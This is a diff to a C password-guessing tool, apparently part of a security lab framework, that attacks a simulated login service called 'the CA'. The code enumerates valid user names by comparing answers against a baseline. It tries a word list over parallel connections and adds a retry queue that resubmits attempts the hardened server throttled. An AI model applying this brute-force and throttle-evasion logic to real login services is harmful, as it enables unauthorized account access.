@@ -15,7 +15,6 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
-#include <time.h>
 
 #include "ca.h"
 #include "hex.h"
@@ -23,6 +22,7 @@
 #include "rand.h"
 
 #define JOBS_MAX 64
+#define RETRY_S 0.1 /* a word the hardened CA held back: tried again */
 #define ANSWERS_MAX 8 /* distinct answers to a password, said once each */
 
 static const struct option longopts[] = {
@@ -45,7 +45,10 @@ struct guess {
 	char baseline[128]; /* enumerate: the answer to a name nobody has */
 	char *known; /* enumerate: per name, 1 if its answer differs */
 	long found; /* guess: the word that signed in, or -1 */
-	unsigned long long answered;
+	unsigned long long tried, held; /* passwords checked; held back */
+	size_t next, *again, nagain; /* words to try: from next, again[] */
+	double wake; /* hardened: no attempt before wake */
+	int locked; /* hardened: the name is locked */
 	char seen[ANSWERS_MAX][128];
 	size_t nseen;
 };
@@ -54,13 +57,14 @@ struct guess {
 static void
 answer(const struct slot *s, int eof, char *out, size_t max)
 {
-	snprintf(out, max, "%.*s", (int)strcspn(s->c.msg, "\n"),
-	    eof ? "(the CA closed the connection)" : s->c.msg);
+	const char *t = eof ? "(the CA closed the connection)" : s->c.msg;
+
+	snprintf(out, max, "%.*s", (int)strcspn(t, "\n"), t);
 }
 
 /* Says each new answer to a password once. */
 static void
-saw(struct guess *g, const char *a, const char *word)
+saw(struct guess *g, const char *a, size_t word)
 {
 	size_t i;
 
@@ -69,7 +73,20 @@ saw(struct guess *g, const char *a, const char *word)
 			return;
 	if (g->nseen < ANSWERS_MAX)
 		snprintf(g->seen[g->nseen++], sizeof(g->seen[0]), "%s", a);
-	attack_progress("guess %llu (%s): \"%s\"", g->answered, word, a);
+	attack_progress("word %zu (%s): \"%s\"", word + 1, g->list.w[word], a);
+}
+
+/*
+ * The hardened CA held the name back (a failure not long ago): the word
+ * is tried again RETRY_S later (sooner than the CA says costs nothing: it
+ * answers the same, and the first moment the hold ends is not lost).
+ */
+static void
+held(struct guess *g, const struct slot *s)
+{
+	g->held++;
+	g->again[g->nagain++] = s->word;
+	g->wake = ca_now() + RETRY_S;
 }
 
 /* The slot's next frame (or EOF); returns 1 when its dialog is over. */
@@ -84,8 +101,7 @@ advance(struct guess *g, struct slot *s, int eof)
 		errx(2, "%s: closed before the answer to %s", g->addr,
 		    g->user ? g->user : w);
 	if (s->step == 0) {
-		ca_send(&s->c, g->user ? g->user : w,
-		    strlen(g->user ? g->user : w));
+		(void)ca_send_name(&s->c, g->user ? g->user : w);
 		s->step = 1;
 		return 0;
 	}
@@ -103,8 +119,13 @@ advance(struct guess *g, struct slot *s, int eof)
 		s->step = 2;
 		return 0;
 	}
-	g->answered++;
-	saw(g, a, w);
+	saw(g, a, s->word);
+	if (!eof && ca_starts(&s->c, CA_H_WAIT))
+		held(g, s);
+	else if (!eof && ca_starts(&s->c, CA_H_LOCKED))
+		g->locked = 1;
+	else
+		g->tried++;
 	if (!eof && ca_is(&s->c, CA_WELCOME) && g->found == -1)
 		g->found = (long)s->word;
 	return 1;
@@ -122,37 +143,65 @@ ready(struct guess *g, struct slot *s)
 	return 0;
 }
 
-/* Every word of the list, jobs dialogs at a time, until one signs in. */
+/* The next word to try, or -1: none left, or not now. */
+static long
+pick(struct guess *g, double now)
+{
+	if (g->found != -1 || g->locked || now < g->wake)
+		return -1;
+	if (g->nagain > 0)
+		return (long)g->again[--g->nagain];
+	return g->next < g->list.n ? (long)g->next++ : -1;
+}
+
+/* Opens the free slots' dialogs; returns how many are open. */
+static size_t
+launch(struct guess *g, struct slot *slot, struct pollfd *pfd, size_t jobs)
+{
+	size_t i, active = 0;
+	long w;
+
+	for (i = 0; i < jobs; i++) {
+		if (pfd[i].fd == -1 && (w = pick(g, ca_now())) != -1) {
+			ca_open(&slot[i].c, g->addr);
+			slot[i].word = (size_t)w;
+			slot[i].step = 0;
+			pfd[i].fd = slot[i].c.fd;
+			pfd[i].events = POLLIN;
+		}
+		active += pfd[i].fd != -1;
+	}
+	return active;
+}
+
+/*
+ * Every word of the list, jobs dialogs at a time, until one signs in or
+ * the name is locked; a word held back is tried again after a wait.
+ */
 static void
 run(struct guess *g, struct slot *slot, struct pollfd *pfd, size_t jobs)
 {
-	size_t next = 0, active = 0, i;
-	int rv;
+	size_t i;
+	int rv, ms, waiting;
 
 	for (i = 0; i < jobs; i++)
 		pfd[i].fd = -1;
 	for (;;) {
-		for (i = 0; i < jobs && next < g->list.n && g->found == -1; i++)
-			if (pfd[i].fd == -1) {
-				ca_open(&slot[i].c, g->addr);
-				slot[i].word = next++;
-				slot[i].step = 0;
-				pfd[i].fd = slot[i].c.fd;
-				pfd[i].events = POLLIN;
-				active++;
-			}
-		if (active == 0)
+		i = launch(g, slot, pfd, jobs);
+		waiting = g->found == -1 && !g->locked && g->wake > ca_now() &&
+		    (g->nagain > 0 || g->next < g->list.n);
+		if (i == 0 && !waiting)
 			return;
-		if ((rv = poll(pfd, jobs, 10000)) == -1)
+		ms = waiting ? (int)((g->wake - ca_now()) * 1000) + 1 : 10000;
+		if ((rv = poll(pfd, jobs, ms)) == -1)
 			err(2, "poll");
-		if (rv == 0)
+		if (rv == 0 && !waiting)
 			errx(2, "%s: no answer in 10 s", g->addr);
 		for (i = 0; i < jobs; i++)
 			if (pfd[i].fd != -1 && pfd[i].revents != 0 &&
 			    ready(g, &slot[i])) {
 				ca_close(&slot[i].c);
 				pfd[i].fd = -1;
-				active--;
 			}
 	}
 }
@@ -170,21 +219,12 @@ baseline(struct guess *g)
 	hex_encode(r, sizeof(r), name + 7);
 	ca_open(&c, g->addr);
 	ca_expect(&c, "the user name prompt");
-	ca_send(&c, name, strlen(name));
+	(void)ca_send_name(&c, name);
 	ca_expect(&c, "the answer to a user name");
 	ca_close(&c);
 	snprintf(g->baseline, sizeof(g->baseline), "%.*s",
 	    (int)strcspn(c.msg, "\n"), c.msg);
 	attack_progress("%s (nobody): \"%s\"", name, g->baseline);
-}
-
-static double
-now(void)
-{
-	struct timespec ts;
-
-	clock_gettime(CLOCK_MONOTONIC, &ts);
-	return (double)ts.tv_sec + ts.tv_nsec / 1e9;
 }
 
 /* The names that got another answer than nobody's, one a line. */
@@ -223,12 +263,19 @@ word_found(struct guess *g, double secs)
 	size_t len = 0;
 
 	attack_progress("%llu guesses in %.2f s: %.1f guesses per second",
-	    g->answered, secs, g->answered / secs);
+	    g->tried, secs, g->tried / secs);
+	if (g->held > 0)
+		attack_progress(
+		    "%llu attempts held back by the CA (tried again)", g->held);
+	if (g->locked)
+		attack_progress("%s is locked: the CA checks no more of its"
+				" passwords",
+		    g->user);
 	if (g->found == -1) {
 		attack_progress("no word of the list signed in as %s: nothing"
 				" recovered",
 		    g->user);
-		attack_stats(g->answered, 0);
+		attack_stats(g->tried + g->held, 0);
 		return 1;
 	}
 	w = g->list.w[g->found];
@@ -237,7 +284,7 @@ word_found(struct guess *g, double secs)
 	if ((out = malloc(strlen(w) + 2)) == NULL)
 		err(2, NULL);
 	len = (size_t)sprintf(out, "%s\n", w);
-	attack_stats(g->answered, len);
+	attack_stats(g->tried + g->held, len);
 	attack_output((uint8_t *)out, len);
 	free(out);
 	return 0;
@@ -283,13 +330,16 @@ ca_guess_main(int argc, char *argv[])
 	if (g.list.n == 0)
 		errx(2, "%s: no words", names ? names : words);
 	if ((slot = calloc(jobs, sizeof(*slot))) == NULL ||
-	    (g.known = calloc(g.list.n, 1)) == NULL)
+	    (g.known = calloc(g.list.n, 1)) == NULL ||
+	    (g.again = calloc(g.list.n, sizeof(*g.again))) == NULL)
 		err(2, NULL);
 	if (names != NULL)
 		baseline(&g);
-	t0 = now();
+	t0 = ca_now();
 	run(&g, slot, pfd, jobs);
-	rv = names ? names_found(&g, now() - t0) : word_found(&g, now() - t0);
+	rv = names ? names_found(&g, ca_now() - t0)
+		   : word_found(&g, ca_now() - t0);
+	free(g.again);
 	free(g.known);
 	free(slot);
 	ca_words_free(&g.list);
